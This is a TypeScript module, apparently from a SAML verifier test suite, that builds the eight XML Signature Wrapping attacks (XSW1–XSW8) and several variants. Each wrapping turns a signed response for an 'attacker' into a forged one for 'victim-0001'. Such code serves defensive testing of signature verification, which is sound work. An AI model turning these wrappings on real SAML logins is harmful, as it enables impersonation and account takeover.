import { goodParts, nameId, renderAssertion, renderResponse, type Conversation } from './message.js';
import { signedResponse } from './sign.js';
import { ASHWORTH, xmlVector, type Vector } from './vector.js';

/** A response the attacker was given, in pieces to wrap with. */
interface Loot {
  readonly whole: string;
  readonly responseSignature: string;
  readonly assertion: string;
  readonly assertionSignature: string;
  /** The signed assertion without its signature. */
  readonly bareAssertion: string;
  readonly evilAssertion: string;
  readonly evilResponse: (inner: string) => string;
}

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;

function loot(conversation: Conversation): Loot {
  const parts = goodParts(conversation);
  const whole = signedResponse(conversation, { key: ASHWORTH }, { ...parts, nameId: nameId('attacker') });
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(whole)?.[0] ?? '';
  const assertionSignature = SIGNATURE.exec(assertion)?.[0] ?? '';
  const evil = { ...goodParts(conversation), nameId: nameId('victim-0001') };
  return {
    whole,
    responseSignature: SIGNATURE.exec(whole)?.[0] ?? '',
    assertion,
    assertionSignature,
    bareAssertion: assertion.replace(assertionSignature, ''),
    evilAssertion: renderAssertion(evil),
    evilResponse: (inner) => renderResponse(evil, inner),
  };
}

function wrap(name: string, build: (loot: Loot) => string): Vector {
  return xmlVector(name, 'unexpected-structure', (attempt) => build(loot(attempt)));
}

const afterIssuer = (xml: string, inserted: string): string => xml.replace('</saml:Issuer>', `</saml:Issuer>${inserted}`);
const insideSignature = (signature: string, inserted: string): string => signature.replace('</ds:Signature>', `<ds:Object>${inserted}</ds:Object></ds:Signature>`);
const beforeEnd = (xml: string, name: string, inserted: string): string => xml.replace(new RegExp(`</${name}>$`), `${inserted}</${name}>`);

/** The eight signature wrappings of Somorovsky and others (2012), and their relatives. */
export const WRAPPING_ATTACKS: readonly Vector[] = [
  wrap('XSW1: the signed response inside the signature of a false one', ({ whole, responseSignature, evilResponse, evilAssertion }) =>
    afterIssuer(evilResponse(evilAssertion), insideSignature(responseSignature, whole.replace(responseSignature, '')))),
  wrap('XSW2: the signed response beside the signature of a false one', ({ whole, responseSignature, evilResponse, evilAssertion }) =>
    afterIssuer(evilResponse(evilAssertion), whole.replace(responseSignature, '') + responseSignature)),
  wrap('XSW3: a false assertion before the signed one', ({ whole, assertion, evilAssertion }) => whole.replace(assertion, evilAssertion + assertion)),
  wrap('XSW4: the signed assertion inside a false one', ({ whole, assertion, evilAssertion }) => whole.replace(assertion, beforeEnd(evilAssertion, 'saml:Assertion', assertion))),
  wrap('XSW5: the signature moved into a false assertion, the signed one after it', ({ whole, assertion, bareAssertion, assertionSignature, evilAssertion }) =>
    whole.replace(assertion, afterIssuer(evilAssertion, assertionSignature) + bareAssertion)),
  wrap('XSW6: the signed assertion inside the signature of a false one', ({ whole, assertion, bareAssertion, assertionSignature, evilAssertion }) =>
    whole.replace(assertion, afterIssuer(evilAssertion, insideSignature(assertionSignature, bareAssertion)))),
  wrap('XSW7: a false assertion in Extensions', ({ whole, assertion, evilAssertion }) =>
    whole.replace(assertion, `<samlp:Extensions>${evilAssertion}</samlp:Extensions>${assertion}`)),
  wrap('XSW8: the signed assertion in an Object of a false one', ({ whole, assertion, bareAssertion, assertionSignature, evilAssertion }) =>
    whole.replace(assertion, afterIssuer(evilAssertion, assertionSignature.replace('</ds:Signature>', `<ds:Object>${bareAssertion}</ds:Object></ds:Signature>`)))),
  wrap('a false assertion after the signed one', ({ whole, assertion, evilAssertion }) => whole.replace(assertion, assertion + evilAssertion)),
  wrap('a false assertion with the same id', ({ whole, assertion, evilAssertion }) => {
    const id = /ID="([^"]+)"/.exec(assertion)?.[1] ?? '';
    return whole.replace(assertion, evilAssertion.replace(/ID="[^"]+"/, `ID="${id}"`) + assertion);
  }),
  wrap('a false assertion in another namespace prefix', ({ whole, assertion, evilAssertion }) => whole.replace(assertion, evilAssertion.replaceAll('saml:', 's2:').replace('xmlns:saml', 'xmlns:s2') + assertion)),
  wrap('the whole signed response inside a false response', ({ whole, evilResponse, evilAssertion }) => evilResponse(evilAssertion + whole)),
  wrap('the signed assertion in Advice of a false one', ({ whole, assertion, evilAssertion }) => whole.replace(assertion, beforeEnd(evilAssertion, 'saml:Assertion', `<saml:Advice>${assertion}</saml:Advice>`))),
];
